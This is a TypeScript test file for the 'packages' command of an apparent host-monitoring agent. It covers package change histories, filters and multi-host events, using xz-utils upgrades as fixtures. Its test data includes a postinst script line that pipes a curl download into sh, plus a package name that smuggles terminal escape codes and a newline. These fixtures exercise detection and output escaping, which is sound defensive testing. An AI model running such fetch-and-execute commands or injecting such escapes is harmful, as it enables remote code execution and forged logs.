// `packages` as a user meets it: changes, histories, exit codes, and the same over exported events of many hosts.

import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { StepparentEvent } from '../../../collectors/event/event.ts';
import { ledgerEntry } from '../../../detectors/package-ledger.ts';
import { openStore } from '../../../storage/store.ts';
import { day, exampleChange, exampleEvent, start } from '../../storage/examples.ts';

const main = join(import.meta.dirname, '../../../agent/main.ts');
let directory: string;
let config: string;

type Packages = NonNullable<NonNullable<StepparentEvent['stepparent']['transaction']>['packages']>;

/** The event of a transaction of dpkg, which alice asked for over ssh. */
function transaction(id: string, timeMs: number, packages: Packages, host = 'web1'): StepparentEvent {
  const event = exampleEvent(id, timeMs);
  return {
    ...event,
    event: { ...event.event, category: ['package'], type: ['installation'], action: 'install' },
    host: { name: host, id: `id-of-${host}` },
    stepparent: {
      ...event.stepparent,
      initiator: { entity_id: '1', pid: 9, executable: '/usr/sbin/sshd', origin: 'ssh as alice', wrappers: [] },
      transaction: { id: 'tx', manager: 'dpkg', root: '/', packages },
    },
  };
}

const packageOf = (name: string, version: string, more: Partial<Packages[number]> = {}): Packages[number] => ({
  name,
  version,
  architecture: 'amd64',
  action: 'install',
  applied: true,
  state: 'installed',
  ...more,
});

const upgrade = packageOf('xz-utils', '5.6.1-1', { action: 'upgrade', former_version: '5.4.1-0.2' });
const hostile = 'evil\u001b[2J\nforged';

beforeAll(() => {
  directory = mkdtempSync(join(tmpdir(), 'stepparent-packages-'));
  config = join(directory, 'config.toml');
  writeFileSync(config, `directories.state = "${directory}/state"\ndirectories.runtime = "${directory}/run"\n`);
  const store = openStore(join(directory, 'state', 'stepparent.db'), { nowMs: start });
  store.addFoundPackages({
    manager: 'dpkg',
    host: { hostId: 'id-of-web1', hostName: 'web1' },
    foundBy: 'first_listing',
    changes: ['xz-utils', 'zlib1g'].map((name) => ({
      ...exampleChange(name, name === 'zlib1g' ? '1.2.13' : '5.4.1-0.2', { action: 'present' }),
      timeMs: start,
      timeSource: 'listing',
    })),
  });
  const put = (event: StepparentEvent): void =>
    void store.record([{ event, scope: '', verdicts: [], packages: ledgerEntry(event) }], start + 10 * day);
  put(transaction('a', start + day, [upgrade, packageOf(hostile, '1')]));
  put(
    transaction('b', start + 2 * day, [packageOf('xz-utils', '5.6.1-1', { action: 'remove', state: 'config-files' })]),
  );
  put(transaction('c', start + 3 * day, [packageOf('bad', '1', { applied: false, state: 'not-installed' })]));
  const content = Buffer.from('#!/bin/sh\ncurl -s https://example.org/x | sh\n');
  store.saveScripts(
    [
      {
        ...{ package: 'xz-utils', version: '5.6.1-1', phase: 'postinst', sha256: 'ab'.repeat(32), state: 'first' },
        ...{ path: '/var/lib/dpkg/info/xz-utils.postinst', origin: 'dpkg', sizeBytes: content.length, content },
      },
    ],
    start,
  );
  store.close();
  mkdirSync(join(directory, 'events'));
  writeFileSync(
    join(directory, 'events/hosts.ndjson'),
    [
      transaction('a', start + day, [upgrade], 'web2'),
      transaction('z', start, [packageOf('xz-utils', '5.4.1-0.2')], 'web2'),
      transaction('a', start + day, [packageOf('xz-utils', '5.2')], 'web3'),
      transaction('q', start, [packageOf('other', '5.6')], 'web3'),
      {
        event: { id: 'broken' },
        '@timestamp': new Date(start).toISOString(),
        stepparent: { transaction: { manager: 'dpkg', packages: 7 } },
      },
    ]
      .map((event) => JSON.stringify(event))
      .join('\n'),
  );
});
afterAll(() => rmSync(directory, { recursive: true }));

interface Result {
  code: number | null;
  out: string;
  err: string;
}

const stepparent = (...args: string[]): Promise<Result> =>
  new Promise((resolve) => {
    const child = execFile(
      process.execPath,
      [main, ...args, '--config', config],
      { env: { ...process.env, TZ: 'UTC' } },
      (_, out, err) => resolve({ code: child.exitCode, out, err }),
    );
  });

const json = async (...args: string[]): Promise<Record<string, unknown>[]> =>
  (await stepparent('packages', '--json', ...args)).out
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));

test('the changes, newest first, with what is hostile escaped', async () => {
  const { code, out, err } = await stepparent('packages');
  expect({ code, err }).toEqual({ code: 0, err: '' });
  expect(out.split('\n')).toEqual([
    expect.stringMatching(/^2026-03-06 10:00 {2}install failed {2}bad 1 +alice over ssh$/),
    expect.stringMatching(/^2026-03-05 10:00 {2}remove +xz-utils 5\.6\.1-1 +alice over ssh$/),
    expect.stringMatching(/^2026-03-04 10:00 {2}install +evil\\x1b\[2J\\nforged 1 +alice over ssh$/),
    expect.stringMatching(/^2026-03-04 10:00 {2}upgrade +xz-utils 5\.4\.1-0\.2 -> 5\.6\.1-1 +alice over ssh$/),
    expect.stringMatching(/^2026-03-03 10:00 {2}present +zlib1g 1\.2\.13 +\(in the first list\)$/),
    expect.stringMatching(/^2026-03-03 10:00 {2}present +xz-utils 5\.4\.1-0\.2 +\(in the first list\)$/),
    '',
  ]);
});

test('--since, --manager and --limit', async () => {
  expect(await json('--since', '2026-03-05')).toMatchObject([
    { 'package.name': 'bad', 'event.outcome': 'failure' },
    { 'package.name': 'xz-utils', 'event.action': 'remove' },
  ]);
  expect((await stepparent('packages', '--manager', 'rpm')).err).toBe('no changes of packages\n');
  const limited = await stepparent('packages', '--limit', '1');
  expect(limited.out).toMatch(/^.* bad 1 .*\n$/);
  expect(limited.err).toBe('only the newest 1 changes are shown; --limit shows more\n');
});

describe('--match', () => {
  test('the history of a package that had the version, and its scripts', async () => {
    const { code, out } = await stepparent('packages', '--match', 'xz-*=5.6.*');
    expect(code).toBe(0);
    expect(out.split('\n').map((line) => line.replaceAll(/ {3,}/g, '  '))).toEqual([
      'xz-utils amd64 (dpkg): not installed',
      '  2026-03-05 10:00  remove  5.6.1-1  alice over ssh',
      '  2026-03-04 10:00  upgrade  5.4.1-0.2 -> 5.6.1-1  alice over ssh',
      '  2026-03-03 10:00  present  5.4.1-0.2  (in the first list)',
      expect.stringMatching(/^ {2}script postinst of 5\.6\.1-1: abababababababab, \S+/),
      '',
    ]);
  });

  test('an installed package, with JSON', async () => {
    const { out } = await stepparent('packages', '--match', 'zlib1g');
    expect(out).toMatch(/^zlib1g amd64 \(dpkg\): 1\.2\.13 installed since before 2026-03-03 10:00\n/);
    expect(await json('--match', 'zlib1g=1.2.*')).toMatchObject([
      { 'package.version': '1.2.13', installed: 1, found_by: 'first_listing', scripts: [] },
    ]);
    expect(await json('--match', 'xz-utils=5.6.1-1')).toMatchObject([
      {
        'event.action': 'remove',
        scripts: [{ phase: 'postinst', sha256: 'ab'.repeat(32), findings: [expect.any(String)] }],
      },
      { 'event.action': 'upgrade' },
      { 'event.action': 'present' },
    ]);
  });

  test.each(['xz-utils=5.7.*', 'xz', "x'z", '=', 'xz-utils=5.6.?'])('%s', async (match) => {
    const { code, err } = await stepparent('packages', '--match', match);
    expect({ code, err }).toEqual(match === '=' ? { code: 0, err: '' } : { code: 3, err: 'no package matches\n' });
  });

  test('--limit cuts the changes, not what is installed', async () => {
    const { out, err } = await stepparent('packages', '--match', '*', '--limit', '1');
    expect(out.split('\n').filter((line) => line !== '' && !line.startsWith('  '))).toEqual([
      'bad amd64 (dpkg): not installed',
      'xz-utils amd64 (dpkg): not installed',
      expect.stringMatching(/^evil.* \(dpkg\): 1 installed since 2026-03-04 10:00$/),
      'zlib1g amd64 (dpkg): 1.2.13 installed since before 2026-03-03 10:00',
    ]);
    expect(out.split('\n').filter((line) => line.startsWith('  2'))).toHaveLength(1);
    expect(err).toBe('only the newest 1 changes are shown; --limit shows more\n');
    expect(await json('--match', '*', '--limit', '2')).toHaveLength(2);
  });

  test('with --since, of packages that had the version since then', async () => {
    const since = (time: string) => stepparent('packages', '--match', 'xz-utils=5.4.*', '--since', time);
    expect((await since('2026-03-04')).out.split('\n')).toHaveLength(6);
    expect((await since('2026-03-05')).code).toBe(3);
  });
});

test('events of many hosts', async () => {
  const { code, out, err } = await stepparent(
    'packages',
    '--match',
    'xz-utils=5.6.*',
    '--events',
    join(directory, 'events'),
  );
  expect({ code, out: out.split('\n').map((line) => line.replaceAll(/ {3,}/g, '  ')) }).toEqual({
    code: 0,
    out: [
      'web2: xz-utils amd64 (dpkg): 5.6.1-1 installed since 2026-03-04 10:00',
      '  2026-03-04 10:00  upgrade  5.4.1-0.2 -> 5.6.1-1  alice over ssh',
      '  2026-03-03 10:00  install  5.4.1-0.2  alice over ssh',
      '',
    ],
  });
  expect(err).toMatch(/^note: 5 events of 3 hosts in 1 file\n/);
  const all = await json('--events', join(directory, 'events'));
  expect(
    all.map((row) => `${row['host.name']} ${row['package.name']} ${row['package.version']} ${row.installed}`),
  ).toEqual(['web3 xz-utils 5.2 1', 'web2 xz-utils 5.6.1-1 1', 'web3 other 5.6 1', 'web2 xz-utils 5.4.1-0.2 0']);
});

test('a directory that is not there', async () => {
  expect(await stepparent('packages', '--journal', `${directory}/none`)).toMatchObject({
    code: 1,
    err: `stepparent: --journal ${directory}/none: no such directory\n`,
  });
});
